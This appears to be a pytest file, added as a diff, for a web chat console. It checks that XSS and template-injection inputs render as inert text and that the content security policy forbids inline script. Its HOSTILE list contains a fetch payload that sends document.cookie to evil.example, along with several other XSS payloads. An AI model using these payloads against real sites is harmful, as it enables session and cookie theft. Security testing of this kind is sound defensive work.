@@ -1,0 +1,90 @@
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import httpx
+
+from tests.web.conftest import Site
+from wakeful.events import Message
+
+HOSTILE = [
+    "<script>fetch('//evil.example/'+document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "</textarea><script>alert(1)</script>",
+    "javascript:alert(1)",
+    "{{ 7*7 }}{% raw %}",
+    "\N{RIGHT-TO-LEFT OVERRIDE}<b>",
+]
+
+
+class Elements(HTMLParser):
+    """Every element and attribute of a page."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str]] = []
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += [(name, value or "") for name, value in attrs]
+
+
+async def test_the_page_shows_chat_waits_and_runs(site: Site, client: httpx.AsyncClient) -> None:
+    await client.post("/api/messages", json={"text": "hello there", "thread": "console/ann"})
+    site.host.ask("w1", args={"order": "A-1001"})
+    page = (await client.get("/", params={"thread": "console/ann"})).text
+    for text in ("hello there", "console/ann", "May I pay?", "A-1001", "Approve", "Reject", "Edit"):
+        assert text in page
+    assert (await client.get("/")).status_code == 200
+    assert (await client.get("/?thread=nothing")).status_code == 200
+
+
+async def test_X16_hostile_text_stays_text(site: Site, client: httpx.AsyncClient) -> None:
+    plain = Elements((await client.get("/?thread=console/a")).text)
+    said = [Message(role="assistant", text=text, at=0) for text in HOSTILE]
+    site.host.kept.said["console/a"] = said
+    for number, text in enumerate(HOSTILE):
+        site.host.kept.said[f"webhook/ci/{text}"] = said
+        site.host.ask(f"w{number}{text}", title=text, args={text: text}, agent=text)
+        row = {"thread": text, "state": text, "error": text, "reply": text, "merged_into": None}
+        site.host.kept.rows[100 + number] = row
+    for thread in ("console/a", *HOSTILE, *(f"webhook/ci/{text}" for text in HOSTILE)):
+        answer = await client.get("/", params={"thread": thread})
+        found = Elements(answer.text)
+        assert found.tags.count("script") == plain.tags.count("script")
+        assert not {"svg", "img", "b", "iframe"} & set(found.tags)
+        assert not [name for name, _ in found.attributes if name.startswith("on")]
+        assert not [v for n, v in found.attributes if n == "href" and v.startswith("java")]
+        assert "49" not in re.findall(r"\b49\b", answer.text)
+
+
+async def test_X16_the_page_allows_no_inline_script(client: httpx.AsyncClient) -> None:
+    answer = await client.get("/")
+    policy = answer.headers["content-security-policy"]
+    assert "default-src 'none'" in policy and "script-src 'self'" in policy
+    assert "unsafe" not in policy
+    assert not re.search(r"<script(?![^>]*src=)|\sstyle=|<style", answer.text)
+
+
+async def test_X16_the_script_puts_in_text_only(client: httpx.AsyncClient) -> None:
+    script = (await client.get("/static/console.js")).text
+    assert not re.search(r"innerHTML\s*=[^=]|outerHTML|insertAdjacentHTML|document\.write", script)
+    assert not re.search(r"\beval\b|new Function|localStorage|sessionStorage", script)
+
+
+async def test_static_files_are_typed(client: httpx.AsyncClient) -> None:
+    assert (await client.get("/static/console.css")).headers["content-type"].startswith("text/css")
+    script = await client.get("/static/console.js")
+    assert "javascript" in script.headers["content-type"]
+
+
+async def test_a_thread_of_another_channel_is_only_read(
+    site: Site, client: httpx.AsyncClient
+) -> None:
+    site.host.kept.said["webhook/ci/1"] = [Message(role="user", text="x", at=0)]
+    page = (await client.get("/?thread=webhook/ci/1")).text
+    assert 'id="say"' not in page and "another channel" in page
